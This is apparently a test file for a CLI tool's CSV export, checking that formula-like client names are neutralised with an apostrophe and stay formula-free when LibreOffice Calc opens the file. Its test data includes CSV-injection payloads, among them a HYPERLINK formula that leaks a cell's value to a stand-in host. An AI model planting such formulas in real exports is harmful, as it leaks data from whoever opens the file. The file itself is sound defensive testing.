import { execFileSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { unzipSync } from "fflate";
import Papa from "papaparse";
import { csvText } from "../../src/cli/csvText";
import { runCli } from "../../src/cli/runCli";
import { openWorkbookReader, snapshotFromReader } from "../../src/xlsx/read";
import { tempDir } from "../fixtures/cliFiles";
import { hasSoffice } from "../support/libreOffice";

/** Client names a sales log typed by many hands, or filled from a web form, may hold. */
const HOSTILE = [
  '=HYPERLINK("http://example.com/?leak="&A1,"Details")',
  "+1+2",
  "-2+3",
  "@SUM(1)",
  "=1+2",
  "Acme;=1+2",
  "＝1+2",
];
const PLAIN = ["Acme GmbH", "O'Brien & Sons", "Returns Ltd"];

/** A sales CSV (quoted fields) of the hostile clients and plain ones; "Returns Ltd" returns more than it buys. */
function salesFile(dir: string): string {
  const lines = ["Client,Date,Amount"];
  const quote = (text: string) => `"${text.replace(/"/g, '""')}"`;
  [...HOSTILE, ...PLAIN].forEach((name, i) => {
    const amount = name === "Returns Ltd" ? -50 : 100 + i * 10;
    lines.push(
      `${quote(name)},2024-01-15,${amount}`,
      `${quote(name)},2024-02-15,${name === "Returns Ltd" ? 10 : amount}`,
    );
  });
  writeFileSync(path.join(dir, "sales.csv"), `${lines.join("\n")}\n`);
  return "sales.csv";
}

async function writtenCsv(dir: string): Promise<string[][]> {
  const outcome = await runCli([salesFile(dir), "--out", "clients.csv"], { cwd: dir, env: {} });
  expect(outcome.exitCode).toBe(0);
  const text = readFileSync(path.join(dir, "clients.csv"), "utf8").replace(/^\ufeff/, "");
  return Papa.parse<string[]>(text.trim(), { dynamicTyping: false }).data;
}

describe("csvText", () => {
  it.each([
    ["=1+2", "'=1+2"],
    ["+1+2", "'+1+2"],
    ["-2+3", "'-2+3"],
    ["@SUM(1)", "'@SUM(1)"],
    ["\r=1", "'\r'=1"],
    ["＠SUM(1)", "'＠SUM(1)"],
    ["x;=1+2", "x;'=1+2"],
    ["x,-1", "x,'-1"],
    ["Acme; -5 %", "Acme; -5 %"],
    ["O'Brien", "O'Brien"],
    ["a-b=c", "a-b=c"],
    ["", ""],
  ])("%j → %j", (text, written) => {
    expect(csvText(text)).toBe(written);
  });
});

describe("the client table --out writes as CSV", () => {
  it("puts an apostrophe before every text a spreadsheet would evaluate, and nowhere else", async () => {
    const rows = await writtenCsv(tempDir());
    const names = new Map(rows.slice(1).map((row) => [row[1], row]));
    for (const name of HOSTILE) expect(names.has(csvText(name))).toBe(true);
    expect(csvText(HOSTILE[0])).toBe(`'${HOSTILE[0]}`);
    expect(names.get("Acme;'=1+2")).toBeDefined();
    for (const name of PLAIN) expect(names.has(name)).toBe(true);
    // No cell of the file starts a formula; a negative number stays a number.
    const texts = rows.flat().filter((cell) => !/^-?\d+(\.\d+)?$/.test(cell));
    for (const cell of texts) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
  });

  it("keeps numbers as numbers: a negative turnover is written -40, unquoted", async () => {
    const dir = tempDir();
    await writtenCsv(dir);
    const raw = readFileSync(path.join(dir, "clients.csv"), "utf8");
    const line = raw.split("\r\n").find((l) => l.includes("Returns Ltd"));
    expect(line?.split(",")[4]).toBe("-40");
  });

  it("leaves --json exact: every name as it was typed", async () => {
    const dir = tempDir();
    const outcome = await runCli([salesFile(dir), "--json"], { cwd: dir, env: {} });
    const json = JSON.parse(outcome.stdout) as { clients: { name: string }[] };
    expect(json.clients.map((c) => c.name).sort()).toEqual([...HOSTILE, ...PLAIN].sort());
  });
});

describe("the CSV opened in LibreOffice Calc", () => {
  if (!hasSoffice) {
    it.skip("needs soffice (LibreOffice Calc) on the PATH: not installed here", () => undefined);
    return;
  }

  /** Calc's import of `file` with `separator` (UTF-8, Calc's other defaults: formulas evaluated), saved as .xlsx. */
  function openedInCalc(dir: string, file: string, separator: "," | ";"): Uint8Array {
    const profile = pathToFileURL(path.join(dir, "lo-profile")).href;
    const outdir = path.join(dir, `calc-${separator === "," ? "comma" : "semicolon"}`);
    execFileSync(
      "soffice",
      [
        `-env:UserInstallation=${profile}`,
        "--headless",
        `--infilter=CSV:${separator.charCodeAt(0)},34,76,1`,
        "--convert-to",
        "xlsx",
        "--outdir",
        outdir,
        file,
      ],
      { cwd: dir, stdio: "pipe", timeout: 120_000 },
    );
    return readFileSync(path.join(outdir, "clients.xlsx"));
  }

  it.each([",", ";"] as const)(
    "with %j as the separator, holds no formula: each name is the text with an apostrophe, turnover a number",
    async (separator) => {
      const dir = tempDir();
      await writtenCsv(dir);
      const xlsx = openedInCalc(dir, "clients.csv", separator);
      const sheetXml = new TextDecoder().decode(unzipSync(xlsx)["xl/worksheets/sheet1.xml"]);
      expect(sheetXml).not.toMatch(/<f[ >]/);
      const values = snapshotFromReader(openWorkbookReader(xlsx))?.active.values ?? [];
      if (separator === ",") {
        const byName = new Map(values.slice(1).map((row) => [row[1], row]));
        for (const name of [...HOSTILE, ...PLAIN]) expect(byName.has(csvText(name))).toBe(true);
        expect(byName.get("Returns Ltd")?.[4]).toBe(-40);
      } else {
        // Split at ';' (as Excel in a Russian or Spanish setting does), "Acme;=1+2" starts a cell at its
        // second half: text, behind its apostrophe.
        expect(values.flat().some((cell) => typeof cell === "string" && cell.startsWith("'=1+2,"))).toBe(
          true,
        );
      }
    },
    180_000,
  );
});
